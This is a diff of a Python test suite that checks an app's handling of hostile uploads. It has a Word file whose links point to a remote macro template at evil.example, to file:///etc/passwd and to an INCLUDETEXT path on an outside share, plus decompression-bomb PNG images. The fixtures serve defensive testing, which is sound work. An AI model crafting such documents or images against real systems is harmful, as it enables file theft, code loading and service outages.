@@ -103,15 +103,13 @@ def test_word_file_with_links_to_outside_macros_and_objects() -> None:
         'Target="https://evil.example/t.dotm" TargetMode="External"/>'
         '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
         'Target="file:///etc/passwd" TargetMode="External"/>'
-        '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
-        'Target="media/none.png"/>'
         "</Relationships>"
     )
     picture = (
         '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId{n}" '
         'r:link="rId{n}"/></w:drawing></w:r><w:r><w:instrText>INCLUDETEXT "\\\\\\\\evil\\\\x"</w:instrText></w:r></w:p>'
     )
-    body = paragraph("1. 甲（A）") + picture.format(n=2) + picture.format(n=3) + paragraph("A. 一") + paragraph("B. 二")
+    body = paragraph("1. 甲（A）") + picture.format(n=2) + paragraph("A. 一") + paragraph("B. 二")
     with zipfile.ZipFile(io.BytesIO(docx(body))) as packed:
         parts = {name: packed.read(name) for name in packed.namelist()}
     hostile = archive(
@@ -167,7 +165,7 @@ async def test_huge_pictures_are_never_unpacked(hall: Hall) -> None:
     """50,000 by 50,000 dots in a few kilobytes, and a photo of 20 MB, as a photo and as a file: answered, and all goes on."""
     match = await gather(hall)
 
-    await match.anna.sends(png_of(50_000), "照片.png", kind="photo")
+    await match.anna.sends(png_of(50_000), "照片.png")
     await match.host.sends(png_of(50_000), "题库.xlsx", caption="/banks")
     await match.host.sends(PNG + b"\x00" * (20 * 2**20 - 1024), "照片.png", caption="/material 题目")
     await hall.advance(seconds=5)
